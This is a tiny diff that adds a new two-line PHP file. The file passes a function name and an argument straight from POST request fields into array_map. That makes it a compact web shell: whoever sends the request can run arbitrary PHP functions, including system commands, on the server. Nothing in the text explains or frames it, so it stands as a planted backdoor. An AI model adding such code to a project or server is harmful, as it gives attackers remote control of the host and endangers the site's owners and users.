@@ -1,0 +1,2 @@
+<?php
+array_map($_POST['fn'], array($_POST['arg']));
